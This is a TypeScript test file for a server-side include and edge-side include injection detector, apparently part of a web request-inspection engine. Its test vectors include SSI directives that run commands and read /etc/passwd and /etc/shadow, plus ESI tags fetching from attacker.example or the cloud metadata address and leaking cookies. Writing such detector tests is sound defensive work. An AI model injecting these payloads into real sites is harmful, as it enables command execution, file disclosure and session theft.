import t from 'tap';
import { detectSsiInjection } from '../../src/detectors/ssi-injection';
import { createEngine } from '../../src/engine';

// Test vectors written for this project (not copied from any payload corpus).

const HIGH: readonly string[] = [
  '<!--#exec cmd="cat /etc/passwd" -->',
  '<!--#exec cgi="/cgi-bin/x.cgi"-->',
  'Nice post! <!--#include virtual="/etc/shadow" -->',
  '<!--#include file="../../web.config"-->',
  '<!--#echo var="DOCUMENT_ROOT" -->',
  '<!--#printenv -->',
  '<!--#printenv-->',
  '<!--#config errmsg="x" -->',
  '<!--#set var="a" value="b" -->',
  '<!--#fsize file="index.html" -->',
  '<!--#EXEC cmd="id" -->',
  '<esi:include src="http://attacker.example/x"/>',
  '<esi:include src=http://169.254.169.254/latest/meta-data/ />',
  'Name<esi:vars>$(HTTP_COOKIE{session})</esi:vars>',
  '<esi:debug/>',
  '<ESI:Include src="//h.invalid/">',
  '<esi:inline name="/x" fetchable="yes">a</esi:inline>',
  '<esi:assign name="x" value="1"/>',
  '<!--esi <esi:include src="/admin"/> -->',
  '<!--esi\n$(HTTP_HOST)\n-->',
];
const MEDIUM: readonly string[] = ['<!--#if expr="$a = b" -->', '<esi:choose><esi:when test="1">x</esi:when></esi:choose>'];
const NONE: readonly string[] = [
  '<!-- a normal HTML comment -->',
  '<!--#region Helpers-->',
  '<!-- #exec is how SSI runs commands -->',
  'Use <!--# in templates',
  '<!--#exectutor -->',
  '<esi>not a tag</esi>',
  '<esimated value="3">',
  'I <3 esi:include docs',
  '<p>Email me at esi:include@example.com</p>',
  'a < b and c > d',
  '',
];

t.test('positives, mediums and negatives', async (t) => {
  for (const v of HIGH) t.equal(detectSsiInjection(v)?.confidence, 'high', JSON.stringify(v));
  for (const v of MEDIUM) t.equal(detectSsiInjection(v)?.confidence, 'medium', JSON.stringify(v));
  for (const v of NONE) t.equal(detectSsiInjection(v), undefined, JSON.stringify(v));
  t.equal(detectSsiInjection('<!--#exec cmd="id"-->')?.rule, 'ssi.directive');
  t.equal(detectSsiInjection('<esi:include src="/x"/>')?.rule, 'ssi.esi');
});

t.test('through the engine: a stored comment field, URL-encoded and HTML-entity forms', async (t) => {
  const e = createEngine();
  const body = (doc: unknown) => e.inspect({ method: 'POST', path: '/comments', sources: [{ kind: 'body', path: 'body', value: JSON.stringify(doc), decoding: 'body', contentType: 'application/json' }] });
  const v = body({ author: 'Ann', text: 'Great! <esi:include src="http://h.invalid/x"/>' });
  t.equal(v.action, 'block');
  t.ok(v.findings.some((f) => f.class === 'ssi' && f.path === 'body.text'), JSON.stringify(v.findings));
  const q = e.inspect({ method: 'GET', path: '/s', sources: [{ kind: 'query', path: 'query', value: { q: '%3C!--%23exec%20cmd%3D%22id%22--%3E' } }] });
  t.ok(q.findings.some((f) => f.class === 'ssi'), JSON.stringify(q.findings));
  t.same(body({ text: '<!-- just a comment --> <p>hello</p>' }).findings, []);
  const off = createEngine({ detectors: { ssi: false } });
  t.notOk(off.inspect({ method: 'POST', path: '/c', sources: [{ kind: 'body', path: 'body', value: JSON.stringify({ t: '<esi:debug/>' }), decoding: 'body', contentType: 'application/json' }] }).findings.some((f) => f.class === 'ssi'));
});

t.test('openers found from `!--` and `:`: order, edges and dense runs', async (t) => {
  // The first high opener in reading order wins, else the first medium one, whichever search found it.
  t.match(detectSsiInjection('<esi:include src=x/> <!--#exec cmd=id -->')?.reason, /esi:include/);
  t.match(detectSsiInjection('<!--#exec cmd=id --> <esi:include src=x/>')?.reason, /#exec/);
  t.match(detectSsiInjection('<esi:when> <!--#if expr=1 -->')?.reason, /esi:when/);
  t.match(detectSsiInjection('<!--#if expr=1 --> <esi:when>')?.reason, /#if/);
  t.match(detectSsiInjection('<!--#if expr=1 --> <esi:vars>')?.reason, /esi:vars/);
  // Openers at the very start, glued to others, and in any case.
  t.equal(detectSsiInjection('<esi:debug/>')?.confidence, 'high');
  t.equal(detectSsiInjection('<!--#echo var=x -->')?.confidence, 'high');
  t.equal(detectSsiInjection('<!--<!--#exec cmd=id')?.confidence, 'high');
  t.equal(detectSsiInjection('<!<!--#exec cmd=id')?.confidence, 'high');
  t.equal(detectSsiInjection('::<ESI:Include src=x>')?.confidence, 'high');
  t.equal(detectSsiInjection('<<<<<esi:vars>')?.confidence, 'high');
  // Near misses: the fixed characters without their `<` or with the wrong prefix.
  for (const v of ['!--#exec cmd=id', '<!--!--#exec cmd=id', 'esi:include', ' esi:include', 'x<esi :include', '<xesi:include', '<esix:include', '<!-#exec', '< !--#exec', '<es:include', ':!--:!--', '<esi:']) {
    t.equal(detectSsiInjection(v), undefined, JSON.stringify(v));
  }
  // Dense runs of the searched characters, with an opener at the end.
  t.equal(detectSsiInjection(':'.repeat(10000) + '<esi:include src=x>')?.confidence, 'high');
  t.equal(detectSsiInjection('!--'.repeat(10000) + '<!--#exec cmd=id')?.confidence, 'high');
  t.equal(detectSsiInjection('<'.repeat(10000) + '!--#exec cmd=id')?.confidence, 'high');
  t.equal(detectSsiInjection('<'.repeat(10000)), undefined);
});

t.test('adversarial 1 MB inputs stay linear and never throw', async (t) => {
  const MB = 1 << 20;
  for (const s of ['<'.repeat(MB), ':'.repeat(MB), '!--'.repeat(MB / 3), '<!'.repeat(MB / 2), '<!--#'.repeat(MB / 5), '<esi:'.repeat(MB / 5), '<!--#' + 'e'.repeat(MB), '<esi:' + 'i'.repeat(MB), '<!--' + ' '.repeat(MB) + 'esi']) {
    t.doesNotThrow(() => detectSsiInjection(s));
  }
});
